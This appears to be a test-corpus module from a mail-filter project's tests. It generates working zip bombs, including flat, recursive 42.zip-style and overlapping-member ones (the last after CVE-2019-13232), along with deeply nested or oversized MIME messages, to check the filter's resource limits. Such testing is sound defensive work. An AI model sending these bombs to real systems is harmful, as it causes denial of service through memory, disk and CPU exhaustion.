"""One message each that would stop a filter, by the cost of looking at it."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import cache
from typing import Final

from tests.corpus.mail import CRLF, file_part, head, mixed, multipart, multipart_type, rows, text_part
from tests.corpus.writers.zips import Member, zipped

_MIB: Final = 1 << 20
_HEAD: Final = 36  # bytes of a local header with a name of six


@cache
def _zeros(mebibytes: int) -> tuple[bytes, int]:
    """Return so many MiB of zeros as raw deflate, and their CRC-32; made of one piece again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(bytes(16 * _MIB)) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = 0
    for _ in range(mebibytes // 16):
        checksum = zlib.crc32(bytes(16 * _MIB), checksum)
    return piece * (mebibytes // 16) + packer.flush(), checksum


def _many_members() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made:
        for number in range(60_000):
            made.writestr(str(number), "x")
    return file.getvalue()


def _flat(name: bytes = b"zeros.txt", mebibytes: int = 2048) -> bytes:
    packed, checksum = _zeros(mebibytes)
    sizes = len(packed), mebibytes * _MIB
    return zipped(
        Member(content=b"", name=name, packed=packed, crc=checksum, local_sizes=sizes, central_sizes=sizes)
    )


def _recursive(level: int = 4) -> bytes:
    """Return zips of sixteen zips each, five deep, a bomb in each of the million last ones (as 42.zip is)."""
    file = io.BytesIO()
    inner = _recursive(level - 1) if level else _flat(mebibytes=16)
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        for number in range(16):
            made.writestr(f"{number:x}.zip", inner)
    return file.getvalue()


def _quoted() -> bytes:
    """Return a zip whose members quote the local headers behind them as stored blocks, and share one kernel.

    Source: David Fifield, "A better zip bomb" (2019); CVE-2019-13232. Sizes and checksums are true.
    """
    count, kernel_size = 100, 16 * _MIB
    kernel, checksum = _zeros(16)
    plain, body, central = bytes(kernel_size), b"", b""
    entries = []
    for number in range(count - 1, -1, -1):
        quote = b"\0" + struct.pack("<HH", _HEAD, _HEAD ^ 0xFFFF) if body else b""
        packed = quote + (body or kernel)
        if body:
            # The content is what is quoted, and then that of the member behind.
            checksum = zlib.crc32(plain, zlib.crc32(body[:_HEAD]))
            plain = body[:_HEAD] + plain
        fields = (20, 0, 8, 0, 0, checksum, len(packed), len(plain), 6)
        name = b"%06d" % number
        body = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", *fields, 0) + name + packed
        entries.append((fields, name))
    for number, (fields, name) in enumerate(reversed(entries)):
        place = number * (_HEAD + 5)
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, *fields, 0, 0, 0, 0, 0, place) + name
    return (
        body + central + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count, count, len(central), len(body), 0)
    )


def _file(make: Callable[[], bytes]) -> Callable[[], bytes]:
    return lambda: mixed("a file", text_part(), file_part(make(), b"notes.zip", b"application/zip"))


def _nested_multiparts() -> bytes:
    levels = b"".join(
        multipart_type(boundary=b"b%d" % level) + CRLF * 2 + b"--b%d\r\n" % level for level in range(2000)
    )
    return head("nesting") + levels + CRLF + b"the end\r\n"


def _nested_messages() -> bytes:
    return head("nesting") + b"Content-Type: message/rfc822\r\n\r\n" * 2000 + b"the end\r\n"


def _parts() -> bytes:
    return head("parts", multipart_type()) + CRLF + multipart(*[text_part(b"part")] * 10_000)


def _headers() -> bytes:
    return head("headers", *[b"X-Number: %d" % number for number in range(50_000)]) + CRLF + b"text\r\n"


def _addresses() -> bytes:
    names = b",\r\n ".join(
        b"Reader %d <reader%d@bastide.example>" % (number, number) for number in range(18_000)
    )
    return rows(b"From: corpus@sender.example", b"To: " + names, b"Subject: addresses", b"", b"text")


BOMBS: Final[Mapping[str, Callable[[], bytes]]] = {
    "zip-of-60000-members": _file(_many_members),
    "zip-flat-2-GB": _file(_flat),
    "zip-overlapping": _file(_quoted),
    "zip-recursive": _file(_recursive),
    "multiparts-nested-2000": _nested_multiparts,
    "messages-nested-2000": _nested_messages,
    "parts-10000": _parts,
    "headers-50000": _headers,
    "address-header-0.8-MB": _addresses,
}
